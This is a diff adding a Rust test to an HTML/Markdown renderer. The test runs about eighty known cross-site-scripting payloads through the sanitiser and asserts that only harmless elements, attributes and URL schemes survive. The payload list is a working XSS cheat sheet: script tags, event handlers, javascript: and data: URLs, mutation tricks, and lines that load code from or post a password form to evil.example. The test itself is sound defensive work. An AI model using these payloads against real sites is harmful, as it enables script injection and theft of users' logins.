@@ -116,4 +116,212 @@ mod tests {
         let deep = ">".repeat(100_000);
         assert!(render(&deep).as_str().len() < 10_000);
     }
+
+    /// Markup as a browser reads it: every element that begins, with its attributes.
+    fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
+        let mut found = Vec::new();
+        let mut rest = html;
+        while let Some((_, after)) = rest.split_once('<') {
+            let end = after.find(|sign: char| sign.is_whitespace() || sign == '>').unwrap_or(after.len());
+            let (name, mut inside) = after.split_at(end);
+            let mut attributes = Vec::new();
+            loop {
+                inside = inside.trim_start();
+                let Some((attribute, value)) = inside.split_once("=\"").filter(|(name, _)| !name.contains('>')) else { break };
+                let (value, after) = value.split_once('"').expect("a value ends");
+                attributes.push((attribute.to_ascii_lowercase(), value.to_owned()));
+                inside = after;
+            }
+            found.push((name.trim_start_matches('/').to_ascii_lowercase(), attributes));
+            rest = inside.split_once('>').map_or("", |(_, rest)| rest);
+        }
+        found
+    }
+
+    /// Elements that show something and do nothing.
+    const HARMLESS: &[&str] = &[
+        "a",
+        "abbr",
+        "acronym",
+        "article",
+        "aside",
+        "b",
+        "bdi",
+        "bdo",
+        "blockquote",
+        "br",
+        "caption",
+        "center",
+        "cite",
+        "code",
+        "col",
+        "colgroup",
+        "data",
+        "dd",
+        "del",
+        "dfn",
+        "div",
+        "dl",
+        "dt",
+        "em",
+        "figcaption",
+        "figure",
+        "footer",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "header",
+        "hgroup",
+        "hr",
+        "i",
+        "img",
+        "ins",
+        "kbd",
+        "li",
+        "mark",
+        "nav",
+        "ol",
+        "p",
+        "pre",
+        "q",
+        "rp",
+        "rt",
+        "rtc",
+        "ruby",
+        "s",
+        "samp",
+        "small",
+        "span",
+        "strike",
+        "strong",
+        "sub",
+        "sup",
+        "table",
+        "tt",
+        "u",
+        "ul",
+        "h1",
+        "tbody",
+        "td",
+        "tfoot",
+        "th",
+        "thead",
+        "time",
+        "tr",
+        "var",
+        "wbr",
+        "section",
+    ];
+
+    /// Shapes that are known from cheat sheets, and from sanitisers that were got round.
+    const ATTACKS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<script/x>alert(1)</script>",
+        "<<script>alert(1)//<</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=x onerror='alert(1)'//",
+        "<img/src=`x`onerror=alert(1)>",
+        "<img src=\"/media/x\" onload=\"alert(1)\">",
+        "<img src=/media/x srcset=\"javascript:alert(1) 1x\">",
+        "<svg onload=alert(1)>",
+        "<svg/onload=alert(1)//",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<template><script>alert(1)</script></template>",
+        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
+        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
+        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
+        "<select><style></select><img src=x onerror=alert(1)></style>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+        "<embed src=\"javascript:alert(1)\">",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<style>@import '//evil.example/x.css'; * { background: url(//evil.example) }</style>",
+        "<p style=\"background:url(javascript:alert(1))\">x</p>",
+        "<p style=\"position:fixed;inset:0\">over everything</p>",
+        "<form action=//evil.example><input name=password><button>Sign in</button></form>",
+        "<button formaction=\"javascript:alert(1)\">x</button>",
+        "<input autofocus onfocus=alert(1)>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<video><source onerror=alert(1)></video>",
+        "<audio src=x onerror=alert(1)>",
+        "<body onload=alert(1)>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
+        "<a href=\" \u{1}javascript:alert(1)\">x</a>",
+        "<a href=\"vbscript:msgbox(1)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+        "<a href=\"blob:https://x/y\">x</a>",
+        "<a href=\"//evil.example\" target=_blank ping=\"//evil.example\" onclick=alert(1)>x</a>",
+        "<a id=x name=y class=btn href=/en>x</a>",
+        "<div is=lesson-editor data-x=y></div>",
+        "<passkey-gate></passkey-gate><app-notices></app-notices>",
+        "[x](javascript:alert(1))",
+        "[x](<javascript:alert(1)>)",
+        "[x](JAVASCRIPT&colon;alert(1))",
+        "[x](java%0ascript:alert(1))",
+        "[x]: javascript:alert(1)\n\n[x]",
+        "<javascript:alert(1)>",
+        "![x](x\"onerror=\"alert(1))",
+        "![x](https://tracker.example/pixel.gif)",
+        "![x](javascript:alert(1) 'title\" onerror=alert(1) x=\"')",
+        "`<script>alert(1)</script>`",
+        "```\"><script>alert(1)</script>\nx\n```",
+        "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
+        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<![CDATA[<img src=x onerror=alert(1)>]]>",
+        "<?xml <img src=x onerror=alert(1)> ?>",
+        "<a href='x' title='\"><img src=x onerror=alert(1)>'>x</a>",
+        "\u{3c}\u{0}script>alert(1)</script>",
+        "＜script＞alert(1)＜/script＞",
+    ];
+
+    #[test]
+    fn sec_u4_what_is_left_of_an_attack_shows_something_and_does_nothing() {
+        for attack in ATTACKS {
+            let once = render(attack);
+            // what was stored and is read as an author's own words again is no more than it was
+            for html in [once.as_str().to_owned(), render(once.as_str()).as_str().to_owned()] {
+                for (element, attributes) in elements(&html) {
+                    assert!(HARMLESS.contains(&element.as_str()), "{attack} → <{element}> in {html}");
+                    for (name, value) in attributes {
+                        let known = !name.starts_with("on")
+                            && !matches!(name.as_str(), "style" | "id" | "name" | "class" | "srcset" | "ping" | "is" | "target")
+                            && !name.starts_with("data-");
+                        assert!(known, "{attack} → {name} in {html}");
+                        if !matches!(name.as_str(), "href" | "src" | "cite") {
+                            continue;
+                        }
+                        let scheme = value.split(['/', '?', '#']).next().unwrap_or_default().to_ascii_lowercase();
+                        let led = ["http:", "https:", "mailto:"].iter().any(|led| scheme.starts_with(led));
+                        assert!(led || !scheme.contains(':'), "{attack} → {value} in {html}");
+                        assert!(
+                            name != "src" || value.starts_with("/media/") || value.starts_with("/img/"),
+                            "{attack} → {value}"
+                        );
+                    }
+                }
+            }
+        }
+    }
 }
